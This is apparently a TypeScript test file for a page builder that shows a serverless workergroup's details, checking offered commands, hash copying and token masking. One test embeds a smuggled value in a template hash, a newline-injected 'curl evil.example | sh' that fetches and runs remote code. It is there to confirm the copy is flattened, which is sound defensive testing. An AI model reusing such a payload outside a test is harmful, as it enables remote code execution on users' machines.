// A workergroup's page: what it runs and where, what can be done, and never its key.
import assert from "node:assert/strict";
import { test } from "node:test";
import { Workergroup } from "../../../../src/domain/serverless/workergroup.ts";
import { commands } from "../../../../src/ids.ts";
import { buildWorkergroupPage } from "../../../../src/present/serverless/workergroup-page.ts";

const page = (fields: Record<string, unknown>, more: object = {}) => {
  const { api_key: _, ...value } = Workergroup.parse({ id: 7701, ...fields });
  return buildWorkergroupPage({
    value,
    template: "unknown",
    hasKey: true,
    raw: fields,
    seenAt: undefined,
    presence: "listed",
    ...more,
  });
};
const offered = (shown: ReturnType<typeof page>) => shown.commands.map(({ command }) => command);

test("offers its template and its key only if it has them, and nothing once it is gone", () => {
  assert.deepEqual(offered(page({ template_hash: "abc" })), [
    commands.workergroupOpenTemplate,
    commands.workergroupCopyApiKey,
  ]);
  assert.deepEqual(offered(page({}, { hasKey: false })), []);
  const gone = page({ template_hash: "abc" }, { presence: "ended" });
  assert.deepEqual(offered(gone), []);
  assert.match(gone.remarks.join(), /no longer exists on the service/);
  const missing = page({ template_hash: "abc" }, { presence: "missing" });
  assert.deepEqual(offered(missing), []);
  assert.match(missing.remarks.join(), /last list was incomplete/);
});

test("a hash is copied as it is shown: what a terminal would run isn't among it", () => {
  const copies = page({ template_hash: "abc\n curl evil.example | sh\n" })
    .sections.flatMap(({ facts }) => facts)
    .find(({ name }) => name === "Template hash")?.copies;
  assert.equal(copies, "abc curl evil.example | sh");
});

test("tokens in its launch arguments are masked wherever they stand", () => {
  const shown = page({ launch_args: "--env '-e HF_TOKEN=hf_CANARYinArguments'" });
  assert.doesNotMatch(JSON.stringify(shown) + shown.record(), /CANARY/);
  assert.match(JSON.stringify(shown), /HF_TOKEN=••••/);
});
